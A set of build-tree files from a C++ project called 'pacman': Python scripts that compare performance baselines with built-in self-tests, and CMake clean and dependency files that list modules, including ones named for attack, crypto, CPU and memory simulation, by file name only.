            "num_cpus": raw.get("context", {}).get("num_cpus", 0),
            "repetitions": args.repetitions,
        },
        "metrics": metrics,
    }
    if args.supersedes or args.provenance:
        result["provenance"] = {}
        if args.supersedes:
            result["provenance"]["supersedes"] = args.supersedes
        if args.provenance:
            result["provenance"]["note"] = args.provenance
    with open(args.output, "w") as f:
        json.dump(result, f, indent=2, sort_keys=True)
        f.write("\n")

    for name in sorted(metrics):
        cv = metrics[name].get("cv")
        cv_note = f" (cv {cv:.1%})" if cv is not None else ""
        print(f"{name}: {metrics[name]['value']:.4g}{cv_note}")
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
