#!/usr/bin/env python3
"""Diff two perf baselines produced by tools/perf_smoke.py.

Each metric carries its own direction ("higher" or "lower" is
better); a metric counts as a regression when it moves in the wrong
direction by more than --threshold (fractional, default 0.15 — sized
for shared CI runners, override for quieter hardware). Exit status is
1 when any metric regresses, so the comparison can gate a CI step;
improvements and in-threshold noise are reported but never fail.

Usage:
    python3 tools/perf_compare.py BASELINE.json CURRENT.json \
        [--threshold 0.15]
    python3 tools/perf_compare.py --self-test
"""

import argparse
import json
import sys

SCHEMA = "pacman-bench-v1"


def load(path):
    with open(path) as f:
        data = json.load(f)
    if data.get("schema") != SCHEMA:
        raise ValueError(f"{path}: unexpected schema "
                         f"{data.get('schema')!r} (want {SCHEMA!r})")
    return data["metrics"]


def compare(baseline, current, threshold):
    """Return (report_lines, regressions) for two metric dicts."""
    lines = []
    regressions = []
    for name in sorted(set(baseline) | set(current)):
        if name not in baseline:
            lines.append(f"  NEW    {name}: "
                         f"{current[name]['value']:.4g}")
            continue
        if name not in current:
            lines.append(f"  GONE   {name}")
            regressions.append(name)
            continue
        base = baseline[name]["value"]
        cur = current[name]["value"]
        better = baseline[name].get("better", "higher")
        if base == 0:
            delta = 0.0 if cur == 0 else float("inf")
        else:
            delta = (cur - base) / abs(base)
        worse = -delta if better == "higher" else delta
        status = "OK    "
        if worse > threshold:
            status = "REGRESS"
            regressions.append(name)
        lines.append(f"  {status} {name}: {base:.4g} -> {cur:.4g} "
                     f"({delta:+.1%}, {better} is better)")
    return lines, regressions


def self_test():
    """Unit-style checks of the comparison logic (no files needed)."""
    base = {
        "rate": {"value": 100.0, "better": "higher"},
        "wall": {"value": 10.0, "better": "lower"},
    }

    # Within threshold both directions: no regressions.
    cur = {
        "rate": {"value": 95.0, "better": "higher"},
        "wall": {"value": 10.5, "better": "lower"},
    }
    _, regs = compare(base, cur, threshold=0.10)
    assert regs == [], regs

    # Rate dropped 30%: regression.
    cur = {
        "rate": {"value": 70.0, "better": "higher"},
        "wall": {"value": 10.0, "better": "lower"},
    }
    _, regs = compare(base, cur, threshold=0.10)
    assert regs == ["rate"], regs

    # Time grew 30%: regression; direction matters.
    cur = {
        "rate": {"value": 130.0, "better": "higher"},
        "wall": {"value": 13.0, "better": "lower"},
    }
    _, regs = compare(base, cur, threshold=0.10)
    assert regs == ["wall"], regs

    # Large improvements are never regressions.
    cur = {
        "rate": {"value": 300.0, "better": "higher"},
        "wall": {"value": 1.0, "better": "lower"},
    }
    _, regs = compare(base, cur, threshold=0.10)
    assert regs == [], regs

    # A metric disappearing is a regression (baseline coverage lost).
    _, regs = compare(base, {"rate": base["rate"]}, threshold=0.10)
    assert regs == ["wall"], regs

    # A new metric is reported but never fails.
    cur = dict(base)
    cur["extra"] = {"value": 1.0, "better": "higher"}
    _, regs = compare(base, cur, threshold=0.10)
    assert regs == [], regs

    # Zero baselines: unchanged is fine, any growth on a lower-better
    # metric is an infinite regression.
    zbase = {"wall": {"value": 0.0, "better": "lower"}}
    _, regs = compare(zbase, {"wall": {"value": 0.0,
                                       "better": "lower"}}, 0.10)
    assert regs == [], regs
    _, regs = compare(zbase, {"wall": {"value": 0.1,
                                       "better": "lower"}}, 0.10)
    assert regs == ["wall"], regs

    print("perf_compare self-test: all assertions passed")
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline", nargs="?",
                        help="baseline BENCH json (e.g. committed "
                             "BENCH_PR4.json)")
    parser.add_argument("current", nargs="?",
                        help="freshly measured BENCH json")
    parser.add_argument("--threshold", type=float, default=0.15,
                        help="fractional regression tolerance")
    parser.add_argument("--self-test", action="store_true",
                        help="run the built-in logic checks and exit")
    args = parser.parse_args(argv)

    if args.self_test:
        return self_test()
    if not args.baseline or not args.current:
        parser.error("baseline and current files are required "
                     "(or use --self-test)")

    lines, regressions = compare(load(args.baseline),
                                 load(args.current), args.threshold)
    print(f"perf compare: {args.baseline} -> {args.current} "
          f"(threshold {args.threshold:.0%})")
    for line in lines:
        print(line)
    if regressions:
        print(f"FAIL: {len(regressions)} metric(s) regressed: "
              f"{', '.join(regressions)}")
        return 1
    print("PASS: no metric regressed beyond threshold")
    return 0


if __name__ == "__main__":
    sys.exit(main())
