#!/usr/bin/env python3
"""Diff two perf baselines produced by tools/perf_smoke.py.

Each metric carries its own direction ("higher" or "lower" is
better); a metric counts as a regression when it moves in the wrong
direction by more than --threshold (fractional, default 0.15 — sized
for shared CI runners, override for quieter hardware). Exit status is
1 when any metric regresses, so the comparison can gate a CI step;
improvements and in-threshold noise are reported but never fail.

Asymmetric baselines are expected across PR boundaries (each PR's
harness adds metrics): a metric present only in the current
measurement is reported as "added", one present only in the baseline
as "removed" — both informational, neither a regression. The gate
only fires on a shared metric moving the wrong way.

A baseline may carry a "provenance" block (written by perf_smoke.py's
--supersedes/--provenance flags) recording which older baseline it
replaced and why it was re-measured. When either side carries one it
is printed in the report header — a deliberately re-based comparison
should say so rather than look like an organic drift — and echoed
into the --json output.

With --json PATH the full structured comparison (per-metric status,
values, delta) is also written as JSON for machine consumption, e.g.
CI annotation steps.

Usage:
    python3 tools/perf_compare.py BASELINE.json CURRENT.json \
        [--threshold 0.15] [--json compare.json]
    python3 tools/perf_compare.py --self-test
"""

import argparse
import json
import sys

SCHEMA = "pacman-bench-v1"
COMPARE_SCHEMA = "pacman-bench-compare-v1"


def load(path):
    """Returns (metrics, provenance-or-None) from a baseline file."""
    with open(path) as f:
        data = json.load(f)
    if data.get("schema") != SCHEMA:
        raise ValueError(f"{path}: unexpected schema "
                         f"{data.get('schema')!r} (want {SCHEMA!r})")
    return data["metrics"], data.get("provenance")


def provenance_lines(side, prov):
    """Render one side's provenance block for the report header."""
    if not prov:
        return []
    parts = []
    if prov.get("supersedes"):
        parts.append(f"supersedes {prov['supersedes']}")
    if prov.get("note"):
        parts.append(prov["note"])
    if not parts:
        return []
    return [f"  note: {side} baseline {'; '.join(parts)}"]


def compare(baseline, current, threshold):
    """Compare two metric dicts.

    Returns a list of entry dicts, one per metric name in either
    input, each with:
      name     metric name
      status   "ok" | "regress" | "added" | "removed"
      better   direction ("higher"/"lower"; None for added/removed
               entries whose side lacks it)
      base     baseline value (None when added)
      current  current value (None when removed)
      delta    fractional change, signed (None when added/removed)
    """
    entries = []
    for name in sorted(set(baseline) | set(current)):
        if name not in baseline:
            entries.append({
                "name": name,
                "status": "added",
                "better": current[name].get("better"),
                "base": None,
                "current": current[name]["value"],
                "delta": None,
            })
            continue
        if name not in current:
            entries.append({
                "name": name,
                "status": "removed",
                "better": baseline[name].get("better"),
                "base": baseline[name]["value"],
                "current": None,
                "delta": None,
            })
            continue
        base = baseline[name]["value"]
        cur = current[name]["value"]
        better = baseline[name].get("better", "higher")
        if base == 0:
            delta = 0.0 if cur == 0 else float("inf")
        else:
            delta = (cur - base) / abs(base)
        worse = -delta if better == "higher" else delta
        status = "regress" if worse > threshold else "ok"
        entries.append({
            "name": name,
            "status": status,
            "better": better,
            "base": base,
            "current": cur,
            "delta": delta,
        })
    return entries


def regressions(entries):
    return [e["name"] for e in entries if e["status"] == "regress"]


def render(entries):
    """Human-readable report lines for a compare() result."""
    label = {
        "ok": "OK     ",
        "regress": "REGRESS",
        "added": "ADDED  ",
        "removed": "REMOVED",
    }
    lines = []
    for e in entries:
        if e["status"] == "added":
            lines.append(f"  {label['added']} {e['name']}: "
                         f"{e['current']:.4g} (no baseline)")
        elif e["status"] == "removed":
            lines.append(f"  {label['removed']} {e['name']}: "
                         f"was {e['base']:.4g} (not measured now)")
        else:
            lines.append(
                f"  {label[e['status']]} {e['name']}: "
                f"{e['base']:.4g} -> {e['current']:.4g} "
                f"({e['delta']:+.1%}, {e['better']} is better)")
    return lines


def write_json(path, entries, threshold, provenance=None):
    result = {
        "schema": COMPARE_SCHEMA,
        "threshold": threshold,
        "metrics": entries,
        "regressions": regressions(entries),
    }
    if provenance:
        result["provenance"] = provenance
    with open(path, "w") as f:
        json.dump(result, f, indent=2, sort_keys=True)
        f.write("\n")


def self_test():
    """Unit-style checks of the comparison logic (no files needed)."""
    import os
    import tempfile

    base = {
        "rate": {"value": 100.0, "better": "higher"},
        "wall": {"value": 10.0, "better": "lower"},
    }

    # Within threshold both directions: no regressions.
    cur = {
        "rate": {"value": 95.0, "better": "higher"},
        "wall": {"value": 10.5, "better": "lower"},
    }
    assert regressions(compare(base, cur, 0.10)) == []

    # Rate dropped 30%: regression.
    cur = {
        "rate": {"value": 70.0, "better": "higher"},
        "wall": {"value": 10.0, "better": "lower"},
    }
    assert regressions(compare(base, cur, 0.10)) == ["rate"]

    # Time grew 30%: regression; direction matters.
    cur = {
        "rate": {"value": 130.0, "better": "higher"},
        "wall": {"value": 13.0, "better": "lower"},
    }
    assert regressions(compare(base, cur, 0.10)) == ["wall"]

    # Large improvements are never regressions.
    cur = {
        "rate": {"value": 300.0, "better": "higher"},
        "wall": {"value": 1.0, "better": "lower"},
    }
    assert regressions(compare(base, cur, 0.10)) == []

    # Asymmetric baselines: a metric present on only one side is
    # informational, never a gate failure — new PRs grow the harness,
    # old baselines lack the new metrics and vice versa.
    entries = compare(base, {"rate": base["rate"]}, 0.10)
    assert regressions(entries) == []
    by_name = {e["name"]: e for e in entries}
    assert by_name["wall"]["status"] == "removed"
    assert by_name["wall"]["base"] == 10.0
    assert by_name["wall"]["current"] is None

    cur = dict(base)
    cur["extra"] = {"value": 1.0, "better": "higher"}
    entries = compare(base, cur, 0.10)
    assert regressions(entries) == []
    by_name = {e["name"]: e for e in entries}
    assert by_name["extra"]["status"] == "added"
    assert by_name["extra"]["base"] is None
    assert by_name["extra"]["current"] == 1.0

    # Fully asymmetric inputs still render without raising.
    entries = compare(base, {"other": {"value": 5.0}}, 0.10)
    assert regressions(entries) == []
    assert [e["status"] for e in entries] == \
        ["added", "removed", "removed"]
    assert len(render(entries)) == 3

    # Zero baselines: unchanged is fine, any growth on a lower-better
    # metric is an infinite regression.
    zbase = {"wall": {"value": 0.0, "better": "lower"}}
    assert regressions(compare(
        zbase, {"wall": {"value": 0.0, "better": "lower"}}, 0.10)) == []
    assert regressions(compare(
        zbase, {"wall": {"value": 0.1, "better": "lower"}},
        0.10)) == ["wall"]

    # --json round-trip: structured output mirrors the entries and
    # carries the regression list.
    cur = {
        "rate": {"value": 70.0, "better": "higher"},
        "extra": {"value": 1.0, "better": "higher"},
    }
    entries = compare(base, cur, 0.10)
    fd, path = tempfile.mkstemp(suffix=".json")
    os.close(fd)
    try:
        write_json(path, entries, 0.10)
        with open(path) as f:
            out = json.load(f)
    finally:
        os.unlink(path)
    assert out["schema"] == COMPARE_SCHEMA
    assert out["threshold"] == 0.10
    assert out["regressions"] == ["rate"]
    statuses = {m["name"]: m["status"] for m in out["metrics"]}
    assert statuses == {"rate": "regress", "extra": "added",
                        "wall": "removed"}

    # Provenance: load() surfaces the block, the header renderer
    # mentions both the superseded file and the note, and --json
    # carries it through.
    fd, path = tempfile.mkstemp(suffix=".json")
    os.close(fd)
    try:
        with open(path, "w") as f:
            json.dump({"schema": SCHEMA,
                       "metrics": base,
                       "provenance": {"supersedes": "BENCH_OLD.json",
                                      "note": "rebaselined"}}, f)
        metrics, prov = load(path)
        assert metrics == base
        assert prov["supersedes"] == "BENCH_OLD.json"
        lines = provenance_lines("baseline", prov)
        assert len(lines) == 1
        assert "BENCH_OLD.json" in lines[0]
        assert "rebaselined" in lines[0]
        assert provenance_lines("current", None) == []
        write_json(path, compare(base, base, 0.10), 0.10,
                   {"baseline": prov})
        with open(path) as f:
            out = json.load(f)
        assert out["provenance"]["baseline"]["note"] == "rebaselined"
    finally:
        os.unlink(path)

    print("perf_compare self-test: all assertions passed")
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("baseline", nargs="?",
                        help="baseline BENCH json (e.g. committed "
                             "BENCH_PR5.json)")
    parser.add_argument("current", nargs="?",
                        help="freshly measured BENCH json")
    parser.add_argument("--threshold", type=float, default=0.15,
                        help="fractional regression tolerance")
    parser.add_argument("--json", dest="json_out", metavar="PATH",
                        help="also write the structured comparison "
                             "as JSON")
    parser.add_argument("--self-test", action="store_true",
                        help="run the built-in logic checks and exit")
    args = parser.parse_args(argv)

    if args.self_test:
        return self_test()
    if not args.baseline or not args.current:
        parser.error("baseline and current files are required "
                     "(or use --self-test)")

    base_metrics, base_prov = load(args.baseline)
    cur_metrics, cur_prov = load(args.current)
    entries = compare(base_metrics, cur_metrics, args.threshold)
    regressed = regressions(entries)
    print(f"perf compare: {args.baseline} -> {args.current} "
          f"(threshold {args.threshold:.0%})")
    for line in (provenance_lines("baseline", base_prov) +
                 provenance_lines("current", cur_prov)):
        print(line)
    for line in render(entries):
        print(line)
    if args.json_out:
        prov = {}
        if base_prov:
            prov["baseline"] = base_prov
        if cur_prov:
            prov["current"] = cur_prov
        write_json(args.json_out, entries, args.threshold,
                   prov or None)
        print(f"wrote {args.json_out}")
    if regressed:
        print(f"FAIL: {len(regressed)} metric(s) regressed: "
              f"{', '.join(regressed)}")
        return 1
    print("PASS: no metric regressed beyond threshold")
    return 0


if __name__ == "__main__":
    sys.exit(main())
