file(REMOVE_RECURSE
  "CMakeFiles/pacman_isa.dir/disasm.cc.o"
  "CMakeFiles/pacman_isa.dir/disasm.cc.o.d"
  "CMakeFiles/pacman_isa.dir/encoding.cc.o"
  "CMakeFiles/pacman_isa.dir/encoding.cc.o.d"
  "CMakeFiles/pacman_isa.dir/inst.cc.o"
  "CMakeFiles/pacman_isa.dir/inst.cc.o.d"
  "CMakeFiles/pacman_isa.dir/pointer.cc.o"
  "CMakeFiles/pacman_isa.dir/pointer.cc.o.d"
  "CMakeFiles/pacman_isa.dir/registers.cc.o"
  "CMakeFiles/pacman_isa.dir/registers.cc.o.d"
  "CMakeFiles/pacman_isa.dir/sysreg.cc.o"
  "CMakeFiles/pacman_isa.dir/sysreg.cc.o.d"
  "libpacman_isa.a"
  "libpacman_isa.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_isa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
