# Empty compiler generated dependencies file for pacman_isa.
# This may be replaced when dependencies are built.
