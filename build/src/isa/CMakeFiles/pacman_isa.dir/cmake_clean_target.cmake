file(REMOVE_RECURSE
  "libpacman_isa.a"
)
