
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/attack/bruteforce.cc" "src/attack/CMakeFiles/pacman_attack.dir/bruteforce.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/bruteforce.cc.o.d"
  "/root/repo/src/attack/evfinder.cc" "src/attack/CMakeFiles/pacman_attack.dir/evfinder.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/evfinder.cc.o.d"
  "/root/repo/src/attack/eviction.cc" "src/attack/CMakeFiles/pacman_attack.dir/eviction.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/eviction.cc.o.d"
  "/root/repo/src/attack/jump2win.cc" "src/attack/CMakeFiles/pacman_attack.dir/jump2win.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/jump2win.cc.o.d"
  "/root/repo/src/attack/oracle.cc" "src/attack/CMakeFiles/pacman_attack.dir/oracle.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/oracle.cc.o.d"
  "/root/repo/src/attack/ret2win.cc" "src/attack/CMakeFiles/pacman_attack.dir/ret2win.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/ret2win.cc.o.d"
  "/root/repo/src/attack/reveng.cc" "src/attack/CMakeFiles/pacman_attack.dir/reveng.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/reveng.cc.o.d"
  "/root/repo/src/attack/runtime.cc" "src/attack/CMakeFiles/pacman_attack.dir/runtime.cc.o" "gcc" "src/attack/CMakeFiles/pacman_attack.dir/runtime.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/kernel/CMakeFiles/pacman_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/cpu/CMakeFiles/pacman_cpu.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pacman_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/asm/CMakeFiles/pacman_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pacman_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/pacman_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/base/CMakeFiles/pacman_base.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
