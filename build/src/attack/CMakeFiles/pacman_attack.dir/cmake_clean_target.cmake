file(REMOVE_RECURSE
  "libpacman_attack.a"
)
