file(REMOVE_RECURSE
  "CMakeFiles/pacman_attack.dir/bruteforce.cc.o"
  "CMakeFiles/pacman_attack.dir/bruteforce.cc.o.d"
  "CMakeFiles/pacman_attack.dir/evfinder.cc.o"
  "CMakeFiles/pacman_attack.dir/evfinder.cc.o.d"
  "CMakeFiles/pacman_attack.dir/eviction.cc.o"
  "CMakeFiles/pacman_attack.dir/eviction.cc.o.d"
  "CMakeFiles/pacman_attack.dir/jump2win.cc.o"
  "CMakeFiles/pacman_attack.dir/jump2win.cc.o.d"
  "CMakeFiles/pacman_attack.dir/oracle.cc.o"
  "CMakeFiles/pacman_attack.dir/oracle.cc.o.d"
  "CMakeFiles/pacman_attack.dir/ret2win.cc.o"
  "CMakeFiles/pacman_attack.dir/ret2win.cc.o.d"
  "CMakeFiles/pacman_attack.dir/reveng.cc.o"
  "CMakeFiles/pacman_attack.dir/reveng.cc.o.d"
  "CMakeFiles/pacman_attack.dir/runtime.cc.o"
  "CMakeFiles/pacman_attack.dir/runtime.cc.o.d"
  "libpacman_attack.a"
  "libpacman_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
