# Empty compiler generated dependencies file for pacman_attack.
# This may be replaced when dependencies are built.
