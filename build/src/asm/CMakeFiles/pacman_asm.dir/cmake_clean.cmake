file(REMOVE_RECURSE
  "CMakeFiles/pacman_asm.dir/assembler.cc.o"
  "CMakeFiles/pacman_asm.dir/assembler.cc.o.d"
  "CMakeFiles/pacman_asm.dir/program.cc.o"
  "CMakeFiles/pacman_asm.dir/program.cc.o.d"
  "CMakeFiles/pacman_asm.dir/textasm.cc.o"
  "CMakeFiles/pacman_asm.dir/textasm.cc.o.d"
  "libpacman_asm.a"
  "libpacman_asm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_asm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
