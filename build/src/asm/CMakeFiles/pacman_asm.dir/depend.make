# Empty dependencies file for pacman_asm.
# This may be replaced when dependencies are built.
