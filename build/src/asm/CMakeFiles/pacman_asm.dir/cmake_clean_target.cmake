file(REMOVE_RECURSE
  "libpacman_asm.a"
)
