# Empty compiler generated dependencies file for pacman_cpu.
# This may be replaced when dependencies are built.
