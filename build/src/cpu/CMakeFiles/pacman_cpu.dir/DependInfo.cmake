
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/cpu/core.cc" "src/cpu/CMakeFiles/pacman_cpu.dir/core.cc.o" "gcc" "src/cpu/CMakeFiles/pacman_cpu.dir/core.cc.o.d"
  "/root/repo/src/cpu/predictor.cc" "src/cpu/CMakeFiles/pacman_cpu.dir/predictor.cc.o" "gcc" "src/cpu/CMakeFiles/pacman_cpu.dir/predictor.cc.o.d"
  "/root/repo/src/cpu/timer.cc" "src/cpu/CMakeFiles/pacman_cpu.dir/timer.cc.o" "gcc" "src/cpu/CMakeFiles/pacman_cpu.dir/timer.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/mem/CMakeFiles/pacman_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pacman_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/pacman_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/base/CMakeFiles/pacman_base.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
