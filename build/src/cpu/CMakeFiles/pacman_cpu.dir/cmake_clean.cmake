file(REMOVE_RECURSE
  "CMakeFiles/pacman_cpu.dir/core.cc.o"
  "CMakeFiles/pacman_cpu.dir/core.cc.o.d"
  "CMakeFiles/pacman_cpu.dir/predictor.cc.o"
  "CMakeFiles/pacman_cpu.dir/predictor.cc.o.d"
  "CMakeFiles/pacman_cpu.dir/timer.cc.o"
  "CMakeFiles/pacman_cpu.dir/timer.cc.o.d"
  "libpacman_cpu.a"
  "libpacman_cpu.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_cpu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
