file(REMOVE_RECURSE
  "libpacman_cpu.a"
)
