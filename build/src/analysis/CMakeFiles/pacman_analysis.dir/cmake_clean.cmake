file(REMOVE_RECURSE
  "CMakeFiles/pacman_analysis.dir/scanner.cc.o"
  "CMakeFiles/pacman_analysis.dir/scanner.cc.o.d"
  "CMakeFiles/pacman_analysis.dir/synth.cc.o"
  "CMakeFiles/pacman_analysis.dir/synth.cc.o.d"
  "libpacman_analysis.a"
  "libpacman_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
