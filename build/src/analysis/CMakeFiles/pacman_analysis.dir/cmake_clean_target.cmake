file(REMOVE_RECURSE
  "libpacman_analysis.a"
)
