
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/analysis/scanner.cc" "src/analysis/CMakeFiles/pacman_analysis.dir/scanner.cc.o" "gcc" "src/analysis/CMakeFiles/pacman_analysis.dir/scanner.cc.o.d"
  "/root/repo/src/analysis/synth.cc" "src/analysis/CMakeFiles/pacman_analysis.dir/synth.cc.o" "gcc" "src/analysis/CMakeFiles/pacman_analysis.dir/synth.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/asm/CMakeFiles/pacman_asm.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pacman_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/pacman_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/base/CMakeFiles/pacman_base.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
