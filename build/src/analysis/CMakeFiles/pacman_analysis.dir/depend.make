# Empty dependencies file for pacman_analysis.
# This may be replaced when dependencies are built.
