file(REMOVE_RECURSE
  "libpacman_base.a"
)
