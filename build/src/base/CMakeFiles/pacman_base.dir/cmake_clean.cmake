file(REMOVE_RECURSE
  "CMakeFiles/pacman_base.dir/logging.cc.o"
  "CMakeFiles/pacman_base.dir/logging.cc.o.d"
  "CMakeFiles/pacman_base.dir/random.cc.o"
  "CMakeFiles/pacman_base.dir/random.cc.o.d"
  "CMakeFiles/pacman_base.dir/stats.cc.o"
  "CMakeFiles/pacman_base.dir/stats.cc.o.d"
  "libpacman_base.a"
  "libpacman_base.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_base.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
