# Empty dependencies file for pacman_base.
# This may be replaced when dependencies are built.
