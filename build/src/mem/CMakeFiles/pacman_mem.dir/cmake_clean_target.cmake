file(REMOVE_RECURSE
  "libpacman_mem.a"
)
