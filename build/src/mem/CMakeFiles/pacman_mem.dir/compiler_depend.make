# Empty compiler generated dependencies file for pacman_mem.
# This may be replaced when dependencies are built.
