file(REMOVE_RECURSE
  "CMakeFiles/pacman_mem.dir/cache.cc.o"
  "CMakeFiles/pacman_mem.dir/cache.cc.o.d"
  "CMakeFiles/pacman_mem.dir/config.cc.o"
  "CMakeFiles/pacman_mem.dir/config.cc.o.d"
  "CMakeFiles/pacman_mem.dir/hierarchy.cc.o"
  "CMakeFiles/pacman_mem.dir/hierarchy.cc.o.d"
  "CMakeFiles/pacman_mem.dir/pagetable.cc.o"
  "CMakeFiles/pacman_mem.dir/pagetable.cc.o.d"
  "CMakeFiles/pacman_mem.dir/physmem.cc.o"
  "CMakeFiles/pacman_mem.dir/physmem.cc.o.d"
  "CMakeFiles/pacman_mem.dir/tlb.cc.o"
  "CMakeFiles/pacman_mem.dir/tlb.cc.o.d"
  "libpacman_mem.a"
  "libpacman_mem.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_mem.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
