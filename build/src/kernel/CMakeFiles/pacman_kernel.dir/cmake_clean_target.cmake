file(REMOVE_RECURSE
  "libpacman_kernel.a"
)
