# Empty compiler generated dependencies file for pacman_kernel.
# This may be replaced when dependencies are built.
