file(REMOVE_RECURSE
  "CMakeFiles/pacman_kernel.dir/kernel.cc.o"
  "CMakeFiles/pacman_kernel.dir/kernel.cc.o.d"
  "CMakeFiles/pacman_kernel.dir/machine.cc.o"
  "CMakeFiles/pacman_kernel.dir/machine.cc.o.d"
  "libpacman_kernel.a"
  "libpacman_kernel.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_kernel.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
