
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/crypto/pac.cc" "src/crypto/CMakeFiles/pacman_crypto.dir/pac.cc.o" "gcc" "src/crypto/CMakeFiles/pacman_crypto.dir/pac.cc.o.d"
  "/root/repo/src/crypto/qarma64.cc" "src/crypto/CMakeFiles/pacman_crypto.dir/qarma64.cc.o" "gcc" "src/crypto/CMakeFiles/pacman_crypto.dir/qarma64.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/base/CMakeFiles/pacman_base.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
