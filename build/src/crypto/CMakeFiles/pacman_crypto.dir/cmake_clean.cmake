file(REMOVE_RECURSE
  "CMakeFiles/pacman_crypto.dir/pac.cc.o"
  "CMakeFiles/pacman_crypto.dir/pac.cc.o.d"
  "CMakeFiles/pacman_crypto.dir/qarma64.cc.o"
  "CMakeFiles/pacman_crypto.dir/qarma64.cc.o.d"
  "libpacman_crypto.a"
  "libpacman_crypto.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pacman_crypto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
