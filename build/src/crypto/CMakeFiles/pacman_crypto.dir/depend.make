# Empty dependencies file for pacman_crypto.
# This may be replaced when dependencies are built.
