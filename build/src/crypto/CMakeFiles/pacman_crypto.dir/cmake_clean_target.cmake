file(REMOVE_RECURSE
  "libpacman_crypto.a"
)
