file(REMOVE_RECURSE
  "../bench/table2_caches"
  "../bench/table2_caches.pdb"
  "CMakeFiles/table2_caches.dir/table2_caches.cc.o"
  "CMakeFiles/table2_caches.dir/table2_caches.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_caches.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
