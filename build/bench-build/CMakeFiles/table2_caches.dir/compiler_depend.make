# Empty compiler generated dependencies file for table2_caches.
# This may be replaced when dependencies are built.
