file(REMOVE_RECURSE
  "../bench/fig6_hierarchy"
  "../bench/fig6_hierarchy.pdb"
  "CMakeFiles/fig6_hierarchy.dir/fig6_hierarchy.cc.o"
  "CMakeFiles/fig6_hierarchy.dir/fig6_hierarchy.cc.o.d"
)

